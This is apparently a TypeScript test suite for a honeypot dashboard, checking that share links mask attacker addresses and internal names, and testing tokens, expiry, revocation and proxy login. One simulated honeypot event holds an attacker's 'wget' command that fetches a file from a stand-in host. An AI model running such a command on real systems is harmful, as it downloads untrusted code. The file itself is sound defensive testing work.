import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Answer, ask, Dashboard, sessionEvents, stopAll, writeRecording } from '../../test/web/dashboard.ts';
import type * as schema from './schema.ts';

const NOON = Date.UTC(2026, 7, 21, 12);
const DAY = 86_400_000;
/** Each of them must never be in what somebody with a link gets: attackers' addresses in several forms, and everything of ours. */
const SECRETS = [
  ...['203.0.113.7', '203.0.113.8', '2001:db8:7::66', '192.0.2.1', '198.51.100.77', '203-0-113-7'],
  ...[
    'observatory-seven',
    'tower.example.org',
    '/srv/geo',
    'host-7.example.net',
    '00000000-0000-4000-8000-000000000000',
  ],
];

let dashboard: Dashboard;
let recording: string;
let now = Date.now();
after(stopAll);
before(async () => {
  dashboard = await Dashboard.start({
    now: () => now,
    web: { hosts: ['tower.example.org'] },
    locate: () => ({ country: 'JP', asn: 64_500, asName: 'Network', hostName: 'host-7.example.net' }) as never,
    geo: {
      sources: [
        { name: 'own', path: '/srv/geo/x.mmdb', attribution: [], gives: { country: true, asn: true }, records: 1 },
      ],
      scanners: { count: 1, date: '2026-06-22' },
    },
  });
  // One of them arrives at the terminal in two pieces, one with a colour in its middle.
  recording = writeRecording(
    dashboard.data,
    NOON + 1000,
    ['$ ping 203.0.', '113.7\r\n', 'to 198.51.\u001b[1m100.77 of observatory-seven\r\n'],
    ['ping 203.0.113.7\n'],
  );
  for (const [index, address] of ['203.0.113.7', '203.0.113.8', '2001:db8:7::66'].entries())
    dashboard.append(
      sessionEvents(
        NOON + index * 60_000,
        [
          { eventid: 'cowrie.session.connect' },
          { eventid: 'cowrie.client.version', version: 'SSH-2.0-Go 203.0.113.7' },
          { eventid: 'cowrie.login.success', username: '203.0.113.7', password: 'at-203-0-113-7' },
          { eventid: 'cowrie.command.input', input: 'wget http://198.51.100.77/x; echo observatory-seven' },
          {
            eventid: 'cowrie.session.file_download',
            url: 'http://198.51.100.77/x',
            shasum: 'a'.repeat(64),
            outfile: `/srv/geo/${'a'.repeat(64)}`,
          },
          { eventid: 'cowrie.unknown', 'from 203.0.113.8': 'x', list: ['203.0.113.8'], deep: { of: '2001:db8:7::66' } },
          {
            eventid: 'cowrie.log.closed',
            ttylog: `tty/${recording}`,
            shasum: recording,
            size: 1,
            duplicate: false,
          },
          { eventid: 'cowrie.session.closed', duration_ms: 9000, duration: 9 },
        ].map((event) => ({ ...event, sensor: 'observatory-seven' })),
        address,
      ),
    );
  dashboard.append([
    {
      ...sessionEvents(NOON, [{ eventid: 'kansatsuki.sensor.started', message: 'SSH at 192.0.2.1 in /srv/geo' }])[0]!,
      sensor: 'observatory-seven',
    },
  ]);
  dashboard.read();
});

const json = { 'content-type': 'application/json' };
const send = (
  method: string,
  path: string,
  body: unknown = {},
  headers: Record<string, string> = {},
): Promise<Answer> =>
  ask(dashboard.url(`/api/v1${path}`), {
    method,
    headers: { authorization: `Bearer ${dashboard.token}`, ...json, ...headers },
    ...(method === 'DELETE' ? {} : { body: JSON.stringify(body) }),
  });
async function share(show: object, days = 7): Promise<schema.MadeShare> {
  const { status, text } = await send('POST', '/shares', { show, days });
  assert.equal(status, 201, text);
  return JSON.parse(text) as schema.MadeShare;
}
const look = ({ path }: schema.MadeShare, route: string) => ask(dashboard.url(`${path}/api/v1${route}`));
const sessions = async () => (await dashboard.json<schema.Sessions>('/sessions?withCommands=true')).items;

function assertMasked(text: string, where: string): void {
  for (const secret of SECRETS) assert.ok(!text.includes(secret), `${where} tells ${secret}: ${text.slice(0, 3000)}`);
}

describe('a link that shows everything', () => {
  test('leaks nothing on any route, in any form, by path or as a token', async () => {
    const link = await share({ kind: 'dashboard' });
    const [session] = await sessions();
    const { paths } = await dashboard.json<{ paths: Record<string, { get?: { parameters?: { name: string }[] } }> }>(
      '/openapi.json',
    );
    const values: Record<string, string[]> = {
      '{id}': [String(session!.id)],
      '{name}': [recording],
      '{date}': ['2026-08-21'],
      '{dimension}': [
        'username',
        'password',
        'pair',
        'command',
        'address',
        'client',
        'hassh',
        'url',
        'hash',
        'sensor',
        'country',
      ],
      '{address}': ['203.0.113.7'],
      '{sha256}': ['a'.repeat(64)],
      '{sensor}': ['observatory-seven'],
      '{session}': [session!.session],
      '{kind}': ['address', 'country', 'asn', 'client', 'hassh'],
      '{a}': ['address', 'sensor', 'client'],
      '{b}': ['country', 'behaviour'],
    };
    const filled = (path: string): string[] => {
      const name = /\{\w+\}/.exec(path)?.[0];
      return name === undefined
        ? [path]
        : (values[name] ?? ['x']).flatMap((value) => filled(path.replace(name, value)));
    };
    const answered = new Set<string>();
    const secret = link.path.split('/').at(-1)!;
    for (const [path, { get }] of Object.entries(paths)) {
      if (!get || path === '/live') continue;
      const parameters = get.parameters?.map(({ name }) => name) ?? [];
      const queries = ['', ...(parameters.includes('format') ? ['?format=csv', '?format=ndjson', '?format=md'] : [])];
      for (const one of filled(path))
        for (const query of queries) {
          const byPath = await look(link, one + query);
          const byToken = await ask(dashboard.url(`/api/v1${one}${query}`), {
            headers: { authorization: `Bearer ${secret}` },
          });
          assert.equal(byToken.status, byPath.status, one);
          for (const { status, text } of [byPath, byToken]) {
            assert.ok([200, 400, 403, 404].includes(status), `${one}${query}: ${status} ${text}`);
            if (status === 200) answered.add(path);
            assertMasked(text, one + query);
          }
        }
    }
    for (const path of [
      '/sessions',
      '/sessions/{id}',
      '/recordings/{name}',
      '/top/{dimension}',
      '/feed',
      '/folds',
      '/samples',
      '/diary/{date}',
      '/survey',
      '/survey/folds',
      '/attackers/{kind}',
      '/wordlists',
    ])
      assert.ok(answered.has(path), `${path} is not shown`);
    for (const path of [
      '/health',
      '/settings',
      '/tokens',
      '/shares',
      '/addresses/{address}',
      '/recordings/{name}/raw',
      '/samples/{sha256}',
      '/export/blocklist',
      '/export/stix',
    ])
      assert.ok(!answered.has(path), `${path} is shown`);
    // What is not secret is told: it is a view, not a blank.
    const { text } = await look(link, `/sessions/${session!.id}`);
    assert.match(text, /wget hxxp:/);
    assert.match(text, /"country":"JP"/);
    assert.deepEqual(dashboard.errors, []);
  });

  test('cannot be asked whether an address, a sensor or a part of a text is there', async () => {
    const link = await share({ kind: 'dashboard' });
    for (const query of [
      'address=203.0.113.7',
      'sensor=observatory-seven',
      'command=198.51.100.77',
      'command=wget',
      'username=203.0.113.7',
      `url=${encodeURIComponent('http://198.51.100.77/x')}`,
      `password=at-203-0-113-7`,
    ]) {
      const { status, text } = await look(link, `/sessions?${query}`);
      assert.equal(status, 403, `${query}: ${text}`);
    }
    assert.equal((await look(link, '/sessions?country=JP')).status, 200);
  });

  test('sees what happens, masked, and nothing of the sensor itself', async () => {
    const link = await share({ kind: 'dashboard' });
    let text = '';
    const sent = request(dashboard.url(`${link.path}/api/v1/live`), { agent: false }, (response) => {
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (text += chunk));
    });
    sent.on('error', () => {});
    sent.end();
    const until = async (word: string) => {
      for (const end = Date.now() + 5000; !text.includes(word) && Date.now() < end; )
        await new Promise((resolve) => setTimeout(resolve, 20));
    };
    await until('event: snapshot');
    dashboard.append(
      sessionEvents(Date.now(), [
        { eventid: 'cowrie.session.connect', sensor: 'observatory-seven' },
        { eventid: 'cowrie.login.failed', username: 'seen-live', password: '203.0.113.8', sensor: 'observatory-seven' },
      ]),
    );
    await until('seen-live');
    sent.destroy();
    assert.match(text, /event: snapshot[\s\S]*event: items[\s\S]*seen-live/);
    assert.doesNotMatch(text, /kansatsuki\.sensor/);
    assertMasked(text, '/live');
  });
});

describe('a link', () => {
  test('of one session shows that and its recording', async () => {
    const [one, other] = await sessions();
    const link = await share({ kind: 'session', id: one!.id });
    const me = JSON.parse((await look(link, '/me')).text) as schema.Me;
    assert.deepEqual([me.kind, me.shows, me.page], ['share', 'session', `/sessions/${one!.id}`]);
    for (const [route, status] of [
      [`/sessions/${one!.id}`, 200],
      [`/recordings/${recording}`, 200],
      [`/recordings/${recording}?session=${one!.id}`, 200],
      [`/recordings/${recording}?session=${other!.id}`, 403],
      [`/recordings/${'b'.repeat(64)}`, 403],
      [`/sessions/${other!.id}`, 403],
      ['/sessions', 403],
      ['/totals', 403],
      ['/feed', 403],
      ['/live', 403],
      ['/diary/2026-08-21', 403],
      ['/no-such-thing', 403],
    ] as const)
      assert.equal((await look(link, route)).status, status, route);
  });

  test('of a recording hides addresses in it, piece by piece, and keeps its length', async () => {
    const [one] = await sessions();
    const link = await share({ kind: 'replay', name: recording, session: one!.id });
    const me = JSON.parse((await look(link, '/me')).text) as schema.Me;
    assert.equal(me.page, `/replay/${recording}?session=${one!.id}`);
    const whole = (await dashboard.get(`/api/v1/recordings/${recording}?session=${one!.id}`)).text;
    const { text } = await look(link, `/recordings/${recording}?session=${one!.id}`);
    const output = (cast: string) =>
      cast
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => JSON.parse(line) as [number, string, string])
        .filter(([, code]) => code === 'o')
        .map(([, , data]) => data);
    assert.match(output(whole).join(''), /ping 203\.0\.113\.7/);
    assert.match(output(text).join(''), /ping ○○○\.○\.○○○\.○\r\n/);
    assert.doesNotMatch(output(text).join(''), /100\.77|observatory/);
    assert.deepEqual(
      output(text).map(({ length }) => length),
      output(whole).map(({ length }) => length),
    );
    assertMasked(text, 'the recording');
    assert.equal((await look(link, `/sessions/${one!.id}`)).status, 403);
  });

  test('of a day shows its entry in both languages and no other day', async () => {
    const link = await share({ kind: 'diary', date: '2026-08-21' });
    for (const lang of ['en', 'ja']) {
      const { status, text } = await look(link, `/diary/2026-08-21?lang=${lang}`);
      assert.equal(status, 200);
      assertMasked(text, 'the entry');
    }
    for (const route of ['/diary/2026-08-22', '/diary', '/sessions'])
      assert.equal((await look(link, route)).status, 403);
  });

  test('ends: by its day, by being revoked, and then says so', async () => {
    const short = await share({ kind: 'dashboard' }, 1);
    const long = await share({ kind: 'dashboard' }, 30);
    const listed = (await dashboard.json<schema.Shares>('/shares')).items;
    assert.deepEqual(
      listed.slice(0, 2).map(({ id }) => id),
      [long.id, short.id],
    );
    const secret = long.path.split('/').at(-1)!;
    assert.ok(!JSON.stringify(listed).includes(secret));
    assert.ok(!readFileSync(join(dashboard.data, 'state/passes.json'), 'utf8').includes(secret));
    now += DAY + 1;
    assert.equal((await look(short, '/totals')).status, 410);
    assert.equal((await look(long, '/totals')).status, 200);
    assert.equal((await send('DELETE', `/shares/${long.id}`)).status, 200);
    assert.equal((await look(long, '/totals')).status, 410);
    assert.equal((await send('DELETE', `/shares/${long.id}`)).status, 404);
    assert.equal((await ask(dashboard.url('/share/0123456789abcdef0123456789abcdef/api/v1/me'))).status, 410);
    now -= DAY + 1;
  });

  test('never changes anything, and no cookie makes it more', async () => {
    const link = await share({ kind: 'dashboard' });
    const secret = link.path.split('/').at(-1)!;
    const cookie = await dashboard.login();
    const ids = async () => (await dashboard.json<schema.Shares>('/shares')).items.map(({ id }) => id);
    const before = await ids();
    for (const [method, path, body] of [
      ['POST', '/shares', { show: { kind: 'dashboard' } }],
      ['POST', '/tokens', { name: 'x', scope: 'all' }],
      ['DELETE', `/shares/${link.id}`, undefined],
      ['POST', '/logout', { everywhere: true }],
    ] as const) {
      const options = { method, headers: { ...json, cookie }, ...(body ? { body: JSON.stringify(body) } : {}) };
      assert.equal((await ask(dashboard.url(`${link.path}/api/v1${path}`), options)).status, 403, path);
      const bearer = { ...options, headers: { ...json, authorization: `Bearer ${secret}`, cookie } };
      assert.equal((await ask(dashboard.url(`/api/v1${path}`), bearer)).status, 403, path);
    }
    assert.equal((await ask(dashboard.url(`${link.path}/api/v1/health`), { headers: { cookie } })).status, 403);
    assert.equal(
      (
        await ask(dashboard.url('/metrics'), {
          headers: { host: 'tower.example.org', authorization: `Bearer ${secret}` },
        })
      ).status,
      401,
    );
    assert.equal(
      (await ask(dashboard.url(`${link.path}/api/v1/totals`), { headers: { 'sec-fetch-site': 'cross-site' } })).status,
      403,
    );
    assert.deepEqual(await ids(), before);
  });

  test('to what is not there cannot be made', async () => {
    const [one] = await sessions();
    for (const [show, status] of [
      [{ kind: 'session', id: 1 }, 404],
      [{ kind: 'replay', name: 'b'.repeat(64), session: one!.id }, 404],
      [{ kind: 'diary', date: 'yesterday' }, 400],
      [{ kind: 'diary', date: '2026-08-21', more: 1 }, 400],
      [{ kind: 'everything' }, 400],
      [undefined, 400],
    ] as const)
      assert.equal((await send('POST', '/shares', { show })).status, status, JSON.stringify(show));
  });
});

describe('a token', () => {
  const make = async (body: object) => JSON.parse((await send('POST', '/tokens', body)).text) as schema.MadeToken;
  const by = (secret: string, path: string, method = 'GET', body?: unknown) =>
    ask(dashboard.url(`/api/v1${path}`), {
      method,
      headers: { authorization: `Bearer ${secret}`, ...json },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });

  test('that reads, reads everything observed, unmasked, and what was handed out is not its business', async () => {
    const { secret, id, name } = await make({ name: 'nightly export' });
    assert.match(secret, /^kansatsuki_[\w-]{32}$/);
    assert.equal(name, 'nightly export');
    assert.match((await by(secret, '/top/address')).text, /203\.0\.113\.7/);
    assert.equal((await by(secret, '/health')).status, 200);
    for (const path of ['/tokens', '/shares']) assert.equal((await by(secret, path)).status, 403);
    assert.equal((await by(secret, '/tokens', 'POST', { name: 'more', scope: 'all' })).status, 403);
    assert.equal((await by(secret, `/tokens/${id}`, 'DELETE')).status, 403);
    assert.equal((await by(secret, '/logout', 'POST', { everywhere: true })).status, 403);
    const kept = readFileSync(join(dashboard.data, 'state/passes.json'), 'utf8');
    assert.ok(kept.includes(id) && !kept.includes(secret));
  });

  test('with the scope all does what the operator can', async () => {
    const { secret } = await make({ name: 'deploy', scope: 'all', days: 1 });
    const made = await by(secret, '/shares', 'POST', { show: { kind: 'dashboard' } });
    assert.equal(made.status, 201);
    assert.equal((await by(secret, `/shares/${(JSON.parse(made.text) as schema.MadeShare).id}`, 'DELETE')).status, 200);
    now += DAY + 1;
    assert.equal((await by(secret, '/totals')).status, 401);
    now -= DAY + 1;
  });

  test('is revoked at once, and survives a restart otherwise', async () => {
    const [gone, kept] = [await make({ name: 'gone' }), await make({ name: 'kept' })];
    assert.equal((await send('DELETE', `/tokens/${gone.id}`)).status, 200);
    assert.equal((await by(gone.secret, '/totals')).status, 401);
    const { data } = dashboard;
    await dashboard.stop(true);
    dashboard = await Dashboard.start({ data, now: () => now });
    assert.equal((await by(kept.secret, '/totals')).status, 200);
    assert.equal((await by(gone.secret, '/totals')).status, 401);
  });

  test('is made by what is asked for only', async () => {
    for (const body of [
      {},
      { name: '' },
      { name: 'x', scope: 'root' },
      { name: 'x', days: 0 },
      { name: 'x'.repeat(81) },
      [],
    ])
      assert.equal((await send('POST', '/tokens', body)).status, 400, JSON.stringify(body));
  });
});

describe('a proxy that logs people in', () => {
  test('is believed by its address only', async () => {
    for (const [sso_from, status] of [
      [['127.0.0.0/8'], 200],
      [['::1', '127.0.0.1'], 200],
      [['10.0.0.0/8', '2001:db8::/32'], 401],
      [[], 401],
    ] as const) {
      const own = await Dashboard.start({ web: { sso_from: [...sso_from], sso_header: 'Remote-User' } });
      const asked = (headers: Record<string, string>) => ask(own.url('/api/v1/me'), { headers });
      const { status: found, text } = await asked({ 'remote-user': 'haruka' });
      assert.equal(found, status, sso_from.join());
      if (found === 200) assert.deepEqual(JSON.parse(text), { kind: 'operator', name: 'haruka' });
      for (const headers of [
        {},
        { 'remote-user': '' },
        { 'remote-user': 'x'.repeat(300) },
        { 'x-forwarded-user': 'haruka' },
      ])
        assert.equal((await asked(headers as Record<string, string>)).status, 401);
      // Whoever was logged in by a cookie of the proxy is still no page of another site.
      assert.equal((await asked({ 'remote-user': 'haruka', 'sec-fetch-site': 'cross-site' })).status, 403);
      await own.stop();
    }
    const off = await Dashboard.start({ web: { sso_from: ['127.0.0.1'] } });
    assert.equal((await ask(off.url('/api/v1/me'), { headers: { 'remote-user': 'haruka' } })).status, 401);
    await off.stop();
  });
});

test('logging out everywhere leaves this browser, ends the others and the links', async () => {
  const [here, there] = [await dashboard.login(), await dashboard.login()];
  const status = async (cookie: string) => (await ask(dashboard.url('/api/v1/totals'), { headers: { cookie } })).status;
  const out = await ask(dashboard.url('/api/v1/logout'), {
    method: 'POST',
    headers: { ...json, cookie: here },
    body: '{"everywhere":true}',
  });
  assert.equal(out.status, 200);
  assert.deepEqual([await status(here), await status(there)], [200, 401]);
  assert.equal((await ask(dashboard.web.loginUrl)).headers['set-cookie'], undefined);
  const stranger = await ask(dashboard.url('/api/v1/logout'), {
    method: 'POST',
    headers: json,
    body: '{"everywhere":true}',
  });
  assert.equal(stranger.status, 401);
});
